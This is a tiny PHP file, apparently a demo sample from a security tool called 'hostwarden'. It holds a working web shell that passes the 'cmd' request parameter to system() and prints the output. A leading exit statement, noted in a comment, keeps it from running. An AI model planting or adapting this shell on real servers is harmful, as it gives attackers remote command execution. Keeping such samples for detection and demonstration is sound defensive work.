<?php /* hostwarden demo sample: the web shell as uploaded on 27 Nov, made inert by this exit. */ exit; ?>
<?php if(isset($_REQUEST['cmd'])){ echo "<pre>"; system($_REQUEST['cmd']); echo "</pre>"; } ?>
